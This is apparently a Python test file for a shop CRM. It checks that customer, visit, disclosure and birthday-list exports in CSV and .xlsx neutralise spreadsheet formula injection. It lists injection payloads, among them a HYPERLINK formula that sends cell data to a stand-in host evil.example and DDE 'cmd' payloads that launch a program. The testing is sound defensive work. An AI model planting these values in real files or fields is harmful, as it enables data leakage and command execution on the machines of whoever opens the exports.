"""Formula injection (OWASP "CSV Injection"): a name or note that starts like a formula comes out
of every export as text, never as a live formula — customers, visits, the disclosure file and the
birthday list, in CSV and .xlsx."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from openpyxl import load_workbook

from shopcrm.domain.cells import neutralise
from shopcrm.domain.models import Customer, Visit
from shopcrm.services import campaigns, privacy, transfer
from shopcrm.store import customers, visits

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_each_payload_is_made_text_and_plain_text_is_untouched():
    for p in PAYLOADS:
        assert neutralise(p) == "'" + p
    for ok in ("山田 太郎", "090-1234-5678", "", "a=b", "メモ -- 2名"):
        assert neutralise(ok) == ok
    assert neutralise(-5) == -5 and neutralise(None) is None


@pytest.fixture
def hostile(db):
    ids = []
    for i, p in enumerate(PAYLOADS):
        c = customers.create(
            db,
            Customer(name=f"客{i}", kana="きゃく", notes=p, birth_month=12, birth_day=1 + i),
        )
        # The name itself too (one that passes the name rules).
        db.execute("UPDATE customers SET name = ? WHERE id = ?", [p.strip() or p, c.id])
        visits.record(
            db,
            Visit(customer_id=c.id, visited_at=dt.datetime(2026, 11, 1, 19), party_size=1,
                  amount=1000, note=p),
        )  # fmt: skip
        ids.append(c.id)
    return ids


def _csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _xlsx_cells(path) -> list:
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _no_formula_text(cells: list[str]) -> None:
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert not dangerous, dangerous


@pytest.mark.parametrize("what", ["customers", "visits"])
def test_csv_exports_neutralise(db, hostile, tmp_path, what):
    out = tmp_path / f"{what}.csv"
    transfer.export(db, what, out)
    cells = _csv_cells(out)
    _no_formula_text(cells)
    assert "'" + PAYLOADS[0] in cells


@pytest.mark.parametrize("what", ["customers", "visits"])
def test_xlsx_exports_hold_no_formula(db, hostile, tmp_path, what):
    out = tmp_path / f"{what}.xlsx"
    transfer.export(db, what, out)
    cells = _xlsx_cells(out)
    assert not [c.value for c in cells if c.data_type == "f"]
    _no_formula_text([c.value for c in cells if isinstance(c.value, str)])
    assert "'" + PAYLOADS[0] in [c.value for c in cells]


def test_the_disclosure_file_holds_no_formula(db, hostile, tmp_path):
    out = tmp_path / "record.xlsx"
    privacy.export_disclosure(db, hostile[0], out)
    cells = _xlsx_cells(out)
    assert not [c.value for c in cells if c.data_type == "f"]
    _no_formula_text([c.value for c in cells if isinstance(c.value, str)])


def test_the_birthday_list_csv_neutralises(db, hostile, tmp_path):
    rows = campaigns.birthday_list(db, month=12, today=dt.date(2026, 11, 20))
    out = tmp_path / "birthdays.csv"
    campaigns.birthday_csv(rows, out)
    cells = _csv_cells(out)
    _no_formula_text(cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
